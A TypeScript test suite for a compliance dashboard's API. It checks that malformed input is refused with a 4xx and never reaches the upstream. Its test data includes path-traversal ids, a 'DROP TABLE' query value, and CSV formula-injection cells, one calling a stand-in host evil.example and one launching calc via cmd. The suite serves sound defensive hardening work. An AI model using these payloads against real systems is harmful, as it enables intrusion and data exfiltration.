import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { flood, rawRequest, type RawRequest } from "./raw-http";
import { STACK_TRACE_RE, startStack, type Stack } from "./stack";

/*
 * Bad input at every route the dashboard serves: path ids that try to climb out or smuggle
 * separators, query strings out of range, bodies that are not what they claim, and uploads in the
 * wrong encoding or far too large. Each is refused with a 4xx whose message says what was wrong,
 * and the simulator's log proves the refusal cost the shared upstream budget nothing.
 * Requests go out byte for byte (node:http), so `../` reaches the server as written.
 */

let s: Stack;
let ORG: string;
let GROUP: string;

beforeAll(async () => {
  s = await startStack({ name: "bad-input", sim: { seed: "hardening-bad-input", orgs: 2, users: 40, groups: 3 } });
  ORG = s.sim.directory.organizations[0]!.uuid;
  GROUP = s.sim.directory.groups[0]!.id;
});

afterAll(async () => {
  await s?.close();
});

beforeEach(() => s.sim.reset());

const json = (body: unknown): RawRequest => ({
  method: "POST",
  headers: { "content-type": "application/json" },
  body: typeof body === "string" ? body : JSON.stringify(body),
});

/** Sends `path` exactly as written, as the logged-in officer, and checks the refusal. */
async function expectRefused(path: string, req: RawRequest = {}, status?: number) {
  const res = await rawRequest(s.app.url, path, { ...req, headers: { cookie: s.cookie, ...req.headers } });
  s.seen.push(res.text, JSON.stringify(res.headers));
  const where = `${req.method ?? "GET"} ${path.slice(0, 120)} answered ${res.status}: ${res.text.slice(0, 300)}`;
  expect(res.status, where).toBeGreaterThanOrEqual(400);
  expect(res.status, where).toBeLessThan(500);
  if (status !== undefined) expect(res.status, where).toBe(status);
  expect(res.headers["content-type"], where).toMatch(/application\/json/);
  const body = JSON.parse(res.text) as { error?: { type?: string; message?: string } };
  expect(body.error?.type, where).toMatch(/\w/);
  expect(body.error?.message, where).toMatch(/[A-Za-z]{3}.*[A-Za-z]{3}/);
  expect(body.error!.message!.length, where).toBeLessThan(1000);
  expect(res.text, where).not.toMatch(STACK_TRACE_RE);
  expect(await s.sim.log(), `${where}\nreached the upstream`).toEqual([]);
  return body.error!;
}

// ---- path ids ----

const BAD_IDS: [string, string][] = [
  ["a dot-dot segment, encoded", "..%2F..%2Fv1%2Fcompliance%2Forganizations"],
  ["dot-dots, fully percent-encoded", "%2e%2e%2f%2e%2e%2fsecrets"],
  ["an encoded slash", "rbac_group%2Fmembers"],
  ["an encoded backslash", "..%5C..%5Cwindows"],
  ["a NUL byte", "rbac_group_1%00.json"],
  ["unicode letters", "caf%C3%A9"],
  ["an emoji", "%F0%9F%98%80"],
  ["a right-to-left override", "rbac_%E2%80%AEgroup"],
  ["10 kB", "g".repeat(10 * 1024)],
  ["a query smuggled in", "rbac_group_1%3Flimit%3D1"],
];

const ID_ROUTES: [string, (id: string) => string, RawRequest?][] = [
  ["organization users", (id) => `/api/compliance/organizations/${id}/users`],
  ["organization settings", (id) => `/api/compliance/organizations/${id}/settings`],
  ["a role", (id) => `/api/compliance/organizations/${ORG}/roles/${id}`],
  ["a role's permissions", (id) => `/api/compliance/organizations/${ORG}/roles/${id}/permissions`],
  ["a group", (id) => `/api/compliance/groups/${id}`],
  ["a group's members", (id) => `/api/compliance/groups/${id}/members`],
  ["a person", (id) => `/api/directory/people/${id}`],
  ["a seed list", (id) => `/api/seed-lists/${id}`],
  ["a seed list download", (id) => `/api/seed-lists/${id}/download`],
  ["a seed list re-resolve", (id) => `/api/seed-lists/${id}/re-resolve`, json({})],
];

describe("path ids", () => {
  for (const [route, make, req] of ID_ROUTES) {
    it.each(BAD_IDS)(`${route}: refuses %s`, async (_what, id) => {
      await expectRefused(make(id), req);
    });
  }

  it.each([
    ["/api/compliance/groups/../../audit"],
    ["/api/compliance/organizations/../groups/.."],
    ["/api/compliance/groups/./..%2f..%2f"],
    ["/api/directory/people/..%2F..%2Fsummary"],
    ["/api/compliance/organizations/%2e%2e/%2e%2e/%2e%2e/v1/compliance/groups"],
    ["/api/compliance/groups/%2E%2E"],
    ["/api/compliance/organizations/ORG/roles/%2E%2E"],
    ["/api/directory/people/%2E%2E"],
    ["/api/seed-lists/%2E%2E/download"],
  ])("a path that climbs with ../ never reaches the upstream: %s", async (raw) => {
    const path = raw.replace("ORG", ORG);
    const res = await rawRequest(s.app.url, path, { headers: { cookie: s.cookie } });
    s.seen.push(res.text);
    // URL rules make a dot-dot segment (plain or %2E-encoded) climb before any route sees it: the
    // server either redirects to the path that leaves, or answers that path, which must be an
    // API JSON error here; the upstream hears nothing either way.
    expect(res.status, `${path} answered ${res.status}: ${res.text.slice(0, 200)}`).toBeLessThan(500);
    if (res.status >= 300 && res.status < 400) expect(new URL(res.headers.location!, s.app.url).pathname.startsWith("/api")).toBe(true);
    // Where the dots lead inside /api, the answer is the API's JSON error; elsewhere a page's 404.
    if (res.status >= 400 && new URL(path, s.app.url).pathname.startsWith("/api/")) {
      expect(res.headers["content-type"]).toMatch(/application\/json/);
      expect((JSON.parse(res.text) as { error: { message: string } }).error.message).toMatch(/\w{3}/);
    }
    expect(await s.sim.log()).toEqual([]);
  });
});

// ---- query strings ----

const BAD_QUERIES: string[] = [
  "/api/compliance/organizations?limit=0",
  "/api/compliance/organizations?limit=-1",
  "/api/compliance/organizations?limit=1001",
  "/api/compliance/organizations?limit=1e3",
  "/api/compliance/organizations?limit=99999999999999999999",
  "/api/compliance/organizations?limit=ten",
  "/api/compliance/organizations?limit=",
  "/api/compliance/organizations?limit=1&limit=2",
  "/api/compliance/organizations?page=",
  `/api/compliance/organizations?page=${"x".repeat(4097)}`,
  "/api/compliance/organizations?page=a&page=b",
  "/api/compliance/organizations?bogus=1",
  "/api/compliance/organizations?name_prefix=Acme",
  `/api/compliance/organizations/ORG/users?limit=500&${"x".repeat(10 * 1024)}=1`,
  "/api/compliance/organizations/ORG/settings?limit=1",
  "/api/compliance/groups?name_prefix=",
  `/api/compliance/groups?name_prefix=${"n".repeat(257)}`,
  "/api/compliance/groups?name_prefix=a&name_prefix=b",
  "/api/compliance/groups/GROUP?page=x",
  "/api/export/users.csv?org=not-a-uuid",
  "/api/export/users.csv?org=ORG&org=..%2F..%2F",
  "/api/export/users.csv?bogus=1",
  "/api/export/users.csv?q=a&q=b",
  `/api/export/users.csv?q=${"q".repeat(10 * 1024)}`,
  "/api/export/users.csv?bom=2",
  "/api/export/users.csv?role=DROP%20TABLE",
  "/api/export/users.csv?domain=a%2Fb",
  "/api/export/users.ndjson?bom=1",
  `/api/export/users.ndjson?${"org=not-a-uuid&".repeat(1001)}`,
  "/api/export/roles.csv?org=..%2F",
  "/api/export/roles.csv?group=GROUP",
  "/api/export/groups.csv?org=ORG",
  "/api/export/groups.csv?group=%00",
  "/api/export/settings.csv?bogus=1",
  "/api/export/settings.csv?bom=yes",
  "/api/audit?limit=0",
  "/api/audit?limit=100000",
  "/api/audit?limit=1&limit=2",
  "/api/audit?from=yesterday",
  "/api/audit?from=2026-13-45",
  "/api/audit?from=2026-05-02&to=2026-05-01",
  "/api/audit?cursor=not-a-cursor",
  `/api/audit?actor=${"a".repeat(10 * 1024)}`,
  "/api/audit?bogus=1",
  "/api/audit.csv?limit=5",
  "/api/audit.csv?bom=2",
  "/api/seed-lists/sl_abcdefgh12?resolution=0",
  "/api/seed-lists/sl_abcdefgh12?resolution=abc",
  "/api/seed-lists/sl_abcdefgh12?against=-1",
  "/api/seed-lists/sl_abcdefgh12/download?format=exe",
  "/api/seed-lists/sl_abcdefgh12/download?bom=yes",
  "/api/seed-lists/sl_abcdefgh12/download?bogus=1",
  "/api/seed-lists/sl_abcdefgh12/download?resolution=1e9",
];

describe("query strings", () => {
  it.each(BAD_QUERIES.map((q) => [q.length > 120 ? `${q.slice(0, 100)}… (${q.length} chars)` : q, q]))("refuses %s", async (_label, q) => {
    await expectRefused(q.replace("ORG", ORG).replace("GROUP", GROUP));
  });

  it.each(["/api/directory/people?bogus=1", "/api/directory/summary?fresh=please", `/api/directory/people/user_x?${"z".repeat(10 * 1024)}=1`])(
    "a directory route refuses a query parameter it does not take before walking anything: %s",
    async (q) => {
      await expectRefused(q);
    },
  );
});

// ---- JSON bodies ----

const POST_ROUTES = ["/api/seed-lists", "/api/seed-lists/resolve", "/api/reconciliation", "/api/reconciliation/bulk", "/api/auth/login"];
const NINE_MB = JSON.stringify({ sources: [{ kind: "paste", text: "a".repeat(9 * 1024 * 1024) }] });

describe("JSON bodies", () => {
  for (const route of POST_ROUTES) {
    it.each([
      ["not JSON", json("{nope")],
      ["empty", json("")],
      ["an array", json("[1,2,3]")],
      ["null", json("null")],
      ["nested 100,000 deep", json("[".repeat(100_000) + "]".repeat(100_000))],
      ["in the wrong encoding", { ...json(""), body: Buffer.from('{"a":"\xe9"}', "latin1") }],
      ["labelled as a form", { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "username=a&password=b" }],
      ["labelled as text", { method: "POST", headers: { "content-type": "text/plain" }, body: "{}" }],
      ["too big (9 MB)", json(NINE_MB)],
      ["a wrong type in every field", json({ sources: "x", name: 7, group_id: 5, expected: [], input: null, username: 1, password: [] })],
    ] as [string, RawRequest][])(`${route}: refuses a body that is %s`, async (_what, req) => {
      await expectRefused(route, req);
    });
  }

  it.each([
    ["/api/seed-lists", { name: "x".repeat(201), sources: [{ kind: "paste", text: "a@b.c" }] }],
    ["/api/seed-lists", { name: "ok", sources: [] }],
    ["/api/seed-lists", { name: "ok", sources: Array.from({ length: 21 }, () => ({ kind: "paste", text: "a@b.c" })) }],
    ["/api/seed-lists/resolve", { sources: [{ kind: "group", group_id: "../../etc" }] }],
    ["/api/seed-lists/resolve", { sources: [{ kind: "selection", entries: ["x".repeat(1001)] }] }],
    ["/api/seed-lists/resolve", { sources: [{ kind: "paste", text: "" }] }],
    ["/api/seed-lists/resolve", { sources: [{ kind: "unknown" }] }],
    ["/api/reconciliation", { group_id: "rbac%2Fgroup", expected: { kind: "paste", text: "a@b.c" } }],
    ["/api/reconciliation", { group_id: "GROUP", expected: { kind: "paste", text: "   \n\n" } }],
    ["/api/reconciliation", { group_id: "GROUP", expected: { kind: "paste", text: "a@b.c" }, fresh: "yes" }],
    ["/api/reconciliation/bulk", { input: { kind: "paste", text: "group_name_or_id,email\n" } }],
    ["/api/auth/login", { username: "", password: "" }],
    ["/api/auth/login", { username: "u".repeat(201), password: "p" }],
  ])("%s: refuses values out of range before any upstream call (%#)", async (route, body) => {
    await expectRefused(route, json(JSON.stringify(body).replace('"GROUP"', JSON.stringify(GROUP))));
  });
});

// ---- CSV uploads ----

const b64 = (bytes: Buffer | string) => Buffer.from(bytes).toString("base64");
const UTF16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("email\r\nada@example.com\r\n", "utf16le")]);
const LATIN1 = Buffer.from("name,email\r\nJos\xe9 Mu\xf1oz,jose@example.com\r\n", "latin1");
const XLSX = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(64, 1)]);
const NO_EMAIL_COLUMN = "name,department\nAda Lovelace,Engineering\nGrace Hopper,Navy\n";
const FORMULA_CELLS = 'email\n"=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n"+cmd|\' /C calc\'!A0"\n-2+3\n@SUM(A1:A9)\n';
const MILLION_ROWS = "x\n".repeat(1_000_000);
const SIX_MB = "a@b.co\n".repeat(900_000);

/** The three upload surfaces, each given the file the way the page sends it. */
const UPLOADS: [string, (bytes: Buffer | string) => unknown][] = [
  ["/api/seed-lists/resolve", (bytes) => ({ sources: [{ kind: "csv", filename: "list.csv", content_base64: b64(bytes), column: 0 }] })],
  ["/api/seed-lists", (bytes) => ({ name: "upload", sources: [{ kind: "csv", filename: "list.csv", content_base64: b64(bytes), column: 0 }] })],
  ["/api/reconciliation", (bytes) => ({ group_id: "GROUP", expected: { kind: "csv", filename: "hr.csv", content_base64: b64(bytes), column: 0 } })],
  ["/api/reconciliation/bulk", (bytes) => ({ input: { kind: "csv", filename: "review.csv", content_base64: b64(bytes) } })],
];

describe("CSV uploads", () => {
  for (const [route, wrap] of UPLOADS) {
    it.each([
      ["UTF-16", UTF16, /UTF-16/],
      ["Latin-1 bytes", LATIN1, /UTF-8/],
      ["an Excel workbook", XLSX, /xlsx|workbook/i],
      ["no email or id column", NO_EMAIL_COLUMN, /email|user id/i],
      ["only formula cells", FORMULA_CELLS, /email|user id/i],
      ["a million rows", MILLION_ROWS, /rows|entries|large/i],
      ["larger than 5 MB", SIX_MB, /MB|large/i],
    ] as [string, Buffer | string, RegExp][])(`${route}: refuses a file with %s`, async (_what, bytes, says) => {
      const body = JSON.stringify(wrap(bytes)).replace('"GROUP"', JSON.stringify(GROUP));
      const error = await expectRefused(route, json(body));
      expect(error.message).toMatch(says);
    });

    it(`${route}: refuses content that is not base64`, async () => {
      const body = JSON.stringify(wrap("a")).replace(/"content_base64":"[^"]*"/, '"content_base64":"%%%not base64%%%"').replace('"GROUP"', JSON.stringify(GROUP));
      await expectRefused(route, json(body));
    });
  }

  it.each([
    ["declared up front", true],
    ["sent chunked with no declared size", false],
  ])("refuses a 100 MB upload %s after reading at most a few MB of it", async (_what, declareLength) => {
    const answer = await flood(s.app.url, "/api/seed-lists/resolve", {
      totalBytes: 100 * 1024 * 1024,
      chunk: Buffer.alloc(64 * 1024, "A"),
      prefix: '{"sources":[{"kind":"csv","filename":"huge.csv","column":0,"content_base64":"',
      headers: { cookie: s.cookie, "content-type": "application/json" },
      declareLength,
    });
    s.seen.push(answer.text);
    expect(answer.status).toBe(413);
    expect((JSON.parse(answer.text) as { error: { message: string } }).error.message).toMatch(/larger than/);
    expect(answer.bytesSent).toBeLessThan(32 * 1024 * 1024);
    expect(await s.sim.log()).toEqual([]);
  });
});

describe("after every refusal above", () => {
  it("no answer carried the access key or a stack trace", () => {
    for (const text of s.seen) {
      expect(text).not.toContain(s.sim.keys.full);
      // Page HTML (a 404 the dots led to) names its script chunks; only error answers are checked for traces.
      if (!text.startsWith("<!DOCTYPE")) expect(text).not.toMatch(STACK_TRACE_RE);
    }
    expect(s.app.output()).not.toContain(s.sim.keys.full);
  });
});
